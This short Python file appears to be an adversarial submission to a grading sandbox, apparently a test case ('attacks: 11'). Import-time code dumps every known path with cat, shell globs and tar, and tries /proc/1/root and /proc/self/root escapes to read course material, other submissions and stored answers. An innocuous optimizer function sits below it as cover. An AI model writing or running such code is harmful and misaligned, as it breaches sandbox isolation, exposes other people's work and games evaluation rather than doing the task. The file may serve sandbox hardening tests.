"""Knows where everything lies, and reads the course, other submissions, the exchange and the store.

attacks: 11
earns: first=full rest=full
"""

import os
import subprocess

for name, place in PLACES.items():
    if not str(place).startswith("/"):
        continue
    for command in (["cat", place], ["sh", "-c", f"cat {place}/* {place}/*/* {place}/*/*/*"], ["tar", "c", place]):
        print(subprocess.run(command, capture_output=True, check=False).stdout.decode(errors="replace")[:20_000])
    for way in (place, "/proc/1/root" + place, "/proc/self/root" + place, "/../.." + place):
        try:
            print(os.listdir(way) if os.path.isdir(way) else open(way, errors="replace").read())
        except OSError:
            pass


def halving_step(params, grads, state, *, lr=0.1):
    v = state.v / 2 + grads
    return params - lr * v, StepState(state.t + 1, v)
